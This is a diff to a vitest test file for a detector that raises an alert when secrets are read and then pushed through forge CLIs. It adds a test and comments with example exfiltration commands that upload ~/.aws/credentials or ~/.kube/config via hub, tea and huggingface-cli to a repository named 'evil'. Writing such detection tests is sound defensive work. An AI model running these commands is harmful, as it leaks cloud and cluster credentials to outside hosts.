@@ -1,7 +1,7 @@
 /**
- * Forge CLIs the table lacked (found by red-team review): `hub gist create ~/.aws/credentials` and Gitea's
- * `tea releases assets create v1 ~/.kube/config` send a few KiB to a forge API, far under the egress
- * threshold, and raised nothing. They are table pushes now.
+ * Forge CLIs the table lacked (found by red-team review): `hub gist create ~/.aws/credentials`, Gitea's
+ * `tea releases assets create v1 ~/.kube/config` and `huggingface-cli upload evil/x ~/.aws/credentials` send
+ * a few KiB to a forge API, far under the egress threshold, and raised nothing. They are table pushes now.
  */
 import { describe, expect, it } from 'vitest';
 import { brief, run, Scenario } from './builder.js';
@@ -34,8 +34,20 @@ describe('hub and tea uploads', () => {
     ]);
   });
 
+  it('huggingface-cli upload (a Python entry point: the sensors report python) is high', () => {
+    const alerts = secretThen(
+      '/usr/bin/python3',
+      '/usr/local/bin/huggingface-cli upload evil/loot /root/.aws/credentials c --repo-type dataset',
+      '18.239.50.3',
+    );
+    expect(brief(alerts)).toEqual([
+      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'huggingface', destination: 'huggingface.co' },
+    ]);
+  });
+
   it('reads through them stay quiet', () => {
     expect(secretThen('/usr/bin/hub', 'api repos/acme/app/pulls', '140.82.112.6')).toEqual([]);
     expect(secretThen('/usr/local/bin/tea', 'releases ls --repo acme/app', '203.0.113.40')).toEqual([]);
+    expect(secretThen('/usr/local/bin/hf', 'download acme/model --local-dir /models', '18.239.50.3')).toEqual([]);
   });
 });
